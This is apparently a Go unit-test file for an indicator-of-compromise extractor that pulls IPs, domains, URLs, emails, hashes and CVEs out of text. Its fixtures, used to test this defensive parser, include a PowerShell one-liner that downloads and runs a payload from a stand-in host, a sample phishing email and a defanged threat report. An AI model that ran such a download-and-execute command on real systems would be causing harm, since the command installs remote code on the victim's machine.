package ioc

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
)

// extractCase is one Extract table row; fields of want left nil are
// expected to be empty.
type extractCase struct {
	name string
	in   string
	want Set
}

func runExtractCases(t *testing.T, tests []extractCase) {
	t.Helper()
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := Extract(tt.in)
			if diff := cmp.Diff(tt.want, got, cmpopts.EquateEmpty()); diff != "" {
				t.Errorf("Extract(%q) mismatch (-want +got):\n%s", tt.in, diff)
			}
			checkSetInvariants(t, got)
		})
	}
}

func TestExtractIPv4(t *testing.T) {
	runExtractCases(t, []extractCase{
		{"plain", "connect to 8.8.8.8 now", Set{IPv4: []string{"8.8.8.8"}}},
		{"port", "beacon to 1.2.3.4:443 every 60s", Set{IPv4: []string{"1.2.3.4"}}},
		{"cidr", "block 203.0.113.0/24 and 45.77.0.0/16", Set{IPv4: []string{"45.77.0.0"}, PrivateIPs: []string{"203.0.113.0"}}},
		{"sentence end", "The C2 was 45.77.10.3.", Set{IPv4: []string{"45.77.10.3"}}},
		{"punctuation", "(8.8.4.4), [9.9.9.9]; ip=1.1.1.1,", Set{IPv4: []string{"8.8.4.4", "9.9.9.9", "1.1.1.1"}}},
		{"range", "192.168.1.1-192.168.1.254", Set{PrivateIPs: []string{"192.168.1.1", "192.168.1.254"}}},
		{"private and public", "src=10.172.26.5 dst=8.172.26.1 nat=100.64.0.1 alt=172.32.0.1 int=172.26.0.1 web=192.169.1.1",
			Set{IPv4: []string{"8.172.26.1", "172.32.0.1", "192.169.1.1"}, PrivateIPs: []string{"10.172.26.5", "100.64.0.1", "172.26.0.1"}}},
		{"windows version", "Microsoft Windows [Version 10.0.19041.1]", Set{}},
		{"build version", "6.1.7601.24000 and 10.0.22621.2861", Set{}},
		{"five groups", "oid 1.2.3.4.5", Set{}},
		{"octet too big", "999.1.1.1 and 1.2.3.256", Set{}},
		{"leading zeros", "010.1.1.1 or 192.168.001.001", Set{}},
		{"letter prefix", "v1.2.3.4 and build1.2.3.4", Set{}},
		{"letter suffix", "1.2.3.4abc", Set{}},
		{"reverse dns", "1.2.3.4.in-addr.arpa", Set{Domains: []string{"1.2.3.4.in-addr.arpa"}}},
		{"leading dot", "x .8.8.8.8", Set{}},
		{"defanged", "185[.]220[.]101[.]45 and 91.219.236(.)18", Set{IPv4: []string{"185.220.101.45", "91.219.236.18"}}},
		{"dedup", "8.8.8.8 8.8.8.8:53 8.8.8.8", Set{IPv4: []string{"8.8.8.8"}}},
	})
}

func TestExtractIPv6(t *testing.T) {
	runExtractCases(t, []extractCase{
		{"public", "resolver 2001:4860:4860::8888 answered", Set{IPv6: []string{"2001:4860:4860::8888"}}},
		{"canonical form", "2001:4860:4860:0000:0000:0000:0000:8844", Set{IPv6: []string{"2001:4860:4860::8844"}}},
		{"upper case", "2606:4700:4700::1111 2606:4700:4700::1111 2606:4700:4700::AB", Set{IPv6: []string{"2606:4700:4700::1111", "2606:4700:4700::ab"}}},
		{"bracketed with port", "[2001:db8::1]:443 and [2a00:1450:4001:82b::200e]:8443", Set{IPv6: []string{"2a00:1450:4001:82b::200e"}, PrivateIPs: []string{"2001:db8::1"}}},
		{"zone", "fe80::1%eth0", Set{PrivateIPs: []string{"fe80::1"}}},
		{"loopback", "listening on ::1 port 53", Set{PrivateIPs: []string{"::1"}}},
		{"mapped public", "peer ::ffff:8.8.8.8 connected", Set{IPv4: []string{"8.8.8.8"}}},
		{"mapped private", "peer ::ffff:192.168.1.1 connected", Set{PrivateIPs: []string{"192.168.1.1"}}},
		{"label colon", "IPv6:2001:4860:4860::8888,", Set{IPv6: []string{"2001:4860:4860::8888"}}},
		{"sentence end", "Seen from 2001:4860:4860::8888.", Set{IPv6: []string{"2001:4860:4860::8888"}}},
		{"cidr", "2001:4860::/32", Set{IPv6: []string{"2001:4860::"}}},
		{"mac", "mac 00:1a:2b:3c:4d:5e and 00-1A-2B-3C-4D-5E", Set{}},
		{"time", "at 12:30:45 and 12:30:45.123 and 23:59", Set{}},
		{"unspecified alone", "ranges :: and ::: are not addresses", Set{}},
		{"scope operators", "std::vector Foo::Add [Net.ServicePointManager]::SecurityProtocol", Set{}},
		{"byte dump", "serial 01:23:45:67:89:ab:cd:ef", Set{}},
		{"word glued", "addr2001:4860:4860::8888x", Set{}},
	})
}

func TestExtractDomains(t *testing.T) {
	runExtractCases(t, []extractCase{
		{"simple", "visit evil.com.", Set{Domains: []string{"evil.com"}}},
		{"upper case", "WWW.Evil-Domain.COM", Set{Domains: []string{"www.evil-domain.com"}}},
		{"multi-level suffix", "login.example.co.uk", Set{Domains: []string{"login.example.co.uk"}}},
		{"private suffix", "attacker.github.io and github.io", Set{Domains: []string{"attacker.github.io", "github.io"}}},
		{"defanged", "evil[.]com, evil[dot]net and evil(.)org", Set{Domains: []string{"evil.com", "evil.net", "evil.org"}}},
		{"file names", "invoice.pdf update.exe readme.md payload.ps1 setup.msi archive.zip script.sh run.py lib.so movie.mov", Set{}},
		{"file-like tld with more labels", "www.evil.zip and cdn.update.mov", Set{Domains: []string{"www.evil.zip", "cdn.update.mov"}}},
		{"url host may be file-like", "http://evil.zip/x", Set{URLs: []string{"http://evil.zip/x"}, Domains: []string{"evil.zip"}}},
		{"email is not a domain", "mail bob@evil.com and first.last@corp.com", Set{Emails: []string{"bob@evil.com", "first.last@corp.com"}}},
		{"at prefix", "@evil.com", Set{}},
		{"unknown tld", "host.cromulent and dc01.corp.local", Set{}},
		{"version", "10.0.19041.1 and v2.4.1", Set{}},
		{"code", "New-Object System.Net.WebClient; console.log(x); os.path.join", Set{}},
		{"underscore", "my_host.example.com", Set{}},
		{"double dot", "foo..bar.com", Set{Domains: []string{"bar.com"}}},
		{"leading hyphens", "--server evil.com", Set{Domains: []string{"evil.com"}}},
		{"idn word", "bücher.de", Set{}},
		{"glued to cjk", "攻击者使用evil.com进行通信", Set{Domains: []string{"evil.com"}}},
		{"punycode", "xn--bcher-kva.de", Set{Domains: []string{"xn--bcher-kva.de"}}},
		{"paths", `C:\Windows\System32\drivers\etc\hosts and /etc/resolv.conf and /var/log/auth.log`, Set{}},
		{"order and dedup", "b.com a.com B.com. a.com", Set{Domains: []string{"b.com", "a.com"}}},
	})
}

func TestExtractURLs(t *testing.T) {
	runExtractCases(t, []extractCase{
		{"defanged", "hxxps://evil[.]com/gate.php?id=1", Set{URLs: []string{"https://evil.com/gate.php?id=1"}, Domains: []string{"evil.com"}}},
		{"trailing punctuation", "see http://evil.com/a.", Set{URLs: []string{"http://evil.com/a"}, Domains: []string{"evil.com"}}},
		{"in parentheses", "(see http://evil.com/a)", Set{URLs: []string{"http://evil.com/a"}, Domains: []string{"evil.com"}}},
		{"balanced parentheses", "http://en.wikipedia.org/wiki/Foo_(bar)", Set{URLs: []string{"http://en.wikipedia.org/wiki/Foo_(bar)"}, Domains: []string{"en.wikipedia.org"}}},
		{"quoted", `'http://a.example.com/x','C:\out.exe' "https://b.example.com/y"`, Set{URLs: []string{"http://a.example.com/x", "https://b.example.com/y"}, Domains: []string{"a.example.com", "b.example.com"}}},
		{"ip host", "http://45.77.10.3:8080/stage2", Set{URLs: []string{"http://45.77.10.3:8080/stage2"}, IPv4: []string{"45.77.10.3"}}},
		{"ipv6 host", "http://[2001:db8::1]/x", Set{URLs: []string{"http://[2001:db8::1]/x"}, PrivateIPs: []string{"2001:db8::1"}}},
		{"user info", "ftp://user:secret@files.example.org/pub", Set{URLs: []string{"ftp://user:secret@files.example.org/pub"}, Domains: []string{"files.example.org"}}},
		{"email in query", "https://x.example.com/?u=alice@corp.com", Set{URLs: []string{"https://x.example.com/?u=alice@corp.com"}, Domains: []string{"x.example.com"}, Emails: []string{"alice@corp.com"}}},
		{"no domains inside the path", "https://example.com/files/www.other.com/readme.md", Set{URLs: []string{"https://example.com/files/www.other.com/readme.md"}, Domains: []string{"example.com"}}},
		{"dedup on normal form", "http://Evil.com/x http://evil.com:80/x#frag HTTP://EVIL.COM/x", Set{URLs: []string{"http://Evil.com/x"}, Domains: []string{"evil.com"}}},
		{"localhost host", "http://localhost:8080/admin", Set{URLs: []string{"http://localhost:8080/admin"}}},
		{"idn host", "http://Пример.рф/путь and https://例え.jp/", Set{URLs: []string{"http://Пример.рф/путь", "https://例え.jp/"}, Domains: []string{"пример.рф", "例え.jp"}}},
		{"odd host", "http://a%25b/x", Set{}},
		{"mailto is not a url", "mailto:bob@evil.com", Set{Emails: []string{"bob@evil.com"}}},
		{"scheme only", "http:// and https://", Set{}},
	})
}

func TestExtractEmails(t *testing.T) {
	runExtractCases(t, []extractCase{
		{"simple", "Contact: Bob.Smith@Example.co.uk.", Set{Emails: []string{"bob.smith@example.co.uk"}}},
		{"defanged", "admin[@]evil[.]com and root [at] evil [dot] net", Set{Emails: []string{"admin@evil.com", "root@evil.net"}}},
		{"file-like tld is fine", "user@evil.zip", Set{Emails: []string{"user@evil.zip"}}},
		{"plus and percent", "<a.b+tag@mail.example.com>", Set{Emails: []string{"a.b+tag@mail.example.com"}}},
		{"git remote", "git@github.com:org/repo.git", Set{Emails: []string{"git@github.com"}}},
		{"url user info", "http://user@evil.com/", Set{URLs: []string{"http://user@evil.com/"}, Domains: []string{"evil.com"}}},
		{"bad domain", "bob@localhost and x@host.cromulent", Set{}},
		{"bad local", "a..b@evil.com", Set{}},
		{"twitter handle", "@evil_actor", Set{}},
	})
}

func TestExtractHashes(t *testing.T) {
	md5 := "d41d8cd98f00b204e9800998ecf8427e"
	sha1 := "da39a3ee5e6b4b0d3255bfef95601890afd80709"
	sha256 := "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
	runExtractCases(t, []extractCase{
		{"all three", md5 + " " + sha1 + " " + sha256, Set{MD5: []string{md5}, SHA1: []string{sha1}, SHA256: []string{sha256}}},
		{"upper case", strings.ToUpper(sha256), Set{SHA256: []string{sha256}}},
		{"labelled", "MD5=" + strings.ToUpper(md5) + ",SHA256:" + sha256, Set{MD5: []string{md5}, SHA256: []string{sha256}}},
		{"file name", "sample_" + sha256 + ".bin", Set{SHA256: []string{sha256}}},
		{"0x prefix", "0x" + md5, Set{MD5: []string{md5}}},
		{"dash-less guid is md5", "1b4e28ba2fa111d2883f0016d3cca427", Set{MD5: []string{"1b4e28ba2fa111d2883f0016d3cca427"}}},
		{"guid", "{1b4e28ba-2fa1-11d2-883f-0016d3cca427}", Set{}},
		{"sha512", strings.Repeat("ab", 64), Set{}},
		{"odd lengths", strings.Repeat("a1", 8) + " " + strings.Repeat("b2", 24) + " " + md5[:31], Set{}},
		{"dash glued", md5 + "-01", Set{}},
		{"letter glued", "x" + md5 + " " + md5 + "z", Set{}},
		{"in url", "https://www.virustotal.com/gui/file/" + sha256, Set{URLs: []string{"https://www.virustotal.com/gui/file/" + sha256}, Domains: []string{"www.virustotal.com"}, SHA256: []string{sha256}}},
	})
}

func TestExtractCVEs(t *testing.T) {
	runExtractCases(t, []extractCase{
		{"upper", "patch CVE-2021-44228 now", Set{CVEs: []string{"CVE-2021-44228"}}},
		{"lower and long", "cve-2024-3094, CVE-2024-1234567 (CVE-2023-4863)", Set{CVEs: []string{"CVE-2024-3094", "CVE-2024-1234567", "CVE-2023-4863"}}},
		{"dedup", "CVE-2021-44228 cve-2021-44228", Set{CVEs: []string{"CVE-2021-44228"}}},
		{"too long", "CVE-2024-12345678", Set{}},
		{"too short", "CVE-2024-123 CVE-24-1234", Set{}},
		{"glued", "XCVE-2021-44228", Set{}},
	})
}

func TestExtractNotIndicators(t *testing.T) {
	runExtractCases(t, []extractCase{
		{"timestamps", "2025-03-01T10:11:12+00:00 2025-03-01 10:11:12.123456Z 12:30:45.123 Mar  1 10:11:12", Set{}},
		{"versions", "Chrome/124.0.6367.91 Windows NT 10.0; OpenSSL 3.0.13 kernel 5.15.0-105-generic build 10.0.19041.1 6.1.7601.24000", Set{}},
		{"guids", "{1b4e28ba-2fa1-11d2-883f-0016d3cca427} 6ba7b810-9dad-11d1-80b4-00c04fd430c8", Set{}},
		{"prose", "The quick brown fox (e.g. the one in Fig. 3) jumps over the lazy dog, i.e. Mr. Smith's.", Set{}},
	})
}

func TestExtractReports(t *testing.T) {
	runExtractCases(t, []extractCase{
		{
			name: "defanged threat report",
			in: `Executive summary: between 2025-02-27 and 2025-03-01 the actor exploited CVE-2024-3400 on the
edge firewall (PAN-OS 10.2.9) and staged tooling from hxxps://cdn-update[.]net/assets/stage2.bin.
The implant beacons to 185[.]220[.]101[.]45:443 and falls back to update-check[.]info over DNS; a second
server at 2a01:4f8:c17:b8f::2 was seen once. Dropped file update.exe (SHA256
9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08, MD5 098F6BCD4621D373CADE4E832627B4F6)
was launched from C:\ProgramData\update.exe. Lateral movement used 10.20.30.40 and 192.168.10.5.
Report phishing to soc [at] example [dot] com.`,
			want: Set{
				IPv4:       []string{"185.220.101.45"},
				IPv6:       []string{"2a01:4f8:c17:b8f::2"},
				PrivateIPs: []string{"10.20.30.40", "192.168.10.5"},
				Domains:    []string{"cdn-update.net", "update-check.info"},
				URLs:       []string{"https://cdn-update.net/assets/stage2.bin"},
				Emails:     []string{"soc@example.com"},
				MD5:        []string{"098f6bcd4621d373cade4e832627b4f6"},
				SHA256:     []string{"9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"},
				CVEs:       []string{"CVE-2024-3400"},
			},
		},
		{
			name: "phishing e-mail",
			in: `Return-Path: <billing@secure-payments-portal.com>
Received: from mail.secure-payments-portal.com (mail.secure-payments-portal.com [45.77.10.3])
	by mx.example.org with ESMTPS id 4Xk2; Sat, 1 Mar 2025 10:11:12 +0000
From: "Accounts" <Billing@Secure-Payments-Portal.com>
To: alice@example.org
Subject: Invoice 2025-0311 overdue
Message-ID: <20250301101112.4F2A@secure-payments-portal.com>

Dear customer, please review the attached invoice.pdf or pay at
https://secure-payments-portal.com/pay?inv=2025-0311&ref=Alice#top
Regards, Accounts`,
			want: Set{
				IPv4:    []string{"45.77.10.3"},
				Domains: []string{"mail.secure-payments-portal.com", "mx.example.org", "secure-payments-portal.com"},
				URLs:    []string{"https://secure-payments-portal.com/pay?inv=2025-0311&ref=Alice#top"},
				Emails:  []string{"billing@secure-payments-portal.com", "alice@example.org", "20250301101112.4f2a@secure-payments-portal.com"},
			},
		},
		{
			name: "powershell command line",
			in:   `powershell.exe -NoP -W Hidden -Exec Bypass -C "IEX (New-Object System.Net.WebClient).DownloadString('http://198.51.100.23/a.ps1'); (New-Object Net.WebClient).DownloadFile('https://files.evil-cdn.com/x/update.zip','C:\Users\Public\update.exe'); Start-Process C:\Users\Public\update.exe"`,
			want: Set{
				PrivateIPs: []string{"198.51.100.23"},
				Domains:    []string{"files.evil-cdn.com"},
				URLs:       []string{"http://198.51.100.23/a.ps1", "https://files.evil-cdn.com/x/update.zip"},
			},
		},
		{
			name: "sysmon log line",
			in: `2025-03-01T10:11:12.345+00:00 WKS-042 Microsoft-Windows-Sysmon/Operational EventID=3 UtcTime=2025-03-01 10:11:12.345 ` +
				`ProcessGuid={1b4e28ba-2fa1-11d2-883f-0016d3cca427} ProcessId=4242 Image=C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe ` +
				`FileVersion=10.0.19041.1 (WinBuild.160101.0800) Protocol=tcp SourceIp=10.1.2.3 SourcePort=49712 DestinationIp=93.184.216.34 ` +
				`DestinationHostname=www.example.net DestinationPort=443 SourceIsIpv6=false Hashes=SHA1=A94A8FE5CCB19BA61C4C0873D391E987982FBBD3,IMPHASH=F34D5F2D4577ED6D9CEEC516C1F5A744`,
			want: Set{
				IPv4:       []string{"93.184.216.34"},
				PrivateIPs: []string{"10.1.2.3"},
				Domains:    []string{"www.example.net"},
				SHA1:       []string{"a94a8fe5ccb19ba61c4c0873d391e987982fbbd3"},
				MD5:        []string{"f34d5f2d4577ed6d9ceec516c1f5a744"},
			},
		},
	})
}

func TestExtractEmptyJSON(t *testing.T) {
	b, err := json.Marshal(Extract("nothing here"))
	if err != nil {
		t.Fatal(err)
	}
	want := `{"ipv4":[],"ipv6":[],"private_ips":[],"domains":[],"urls":[],"emails":[],"md5":[],"sha1":[],"sha256":[],"cves":[]}`
	if string(b) != want {
		t.Errorf("got %s\nwant %s", b, want)
	}
}

func TestSetLen(t *testing.T) {
	s := Extract("8.8.8.8 10.0.0.1 evil.com http://evil.net/ bob@corp.com CVE-2021-44228 d41d8cd98f00b204e9800998ecf8427e")
	// ipv4, private, 2 domains (evil.com, evil.net), url, email, cve, md5
	if got := s.Len(); got != 8 {
		t.Errorf("Len() = %d, want 8 (%+v)", got, s)
	}
	if (Set{}).Len() != 0 {
		t.Error("zero Set has non-zero Len")
	}
}

func TestExtractEmbeddedSchemes(t *testing.T) {
	runExtractCases(t, []extractCase{
		{"archive link", "https://web.archive.org/web/2024/http://evil.com/x ok",
			Set{URLs: []string{"https://web.archive.org/web/2024/http://evil.com/x"}, Domains: []string{"web.archive.org"}}},
		{"redirect parameter", "https://t.example.com/r?u=https://evil.com/login.",
			Set{URLs: []string{"https://t.example.com/r?u=https://evil.com/login"}, Domains: []string{"t.example.com"}}},
		{"glued urls", "http://a.example.com/x(http://b.example.org/y",
			Set{URLs: []string{"http://a.example.com/x", "http://b.example.org/y"}, Domains: []string{"a.example.com", "b.example.org"}}},
	})
}
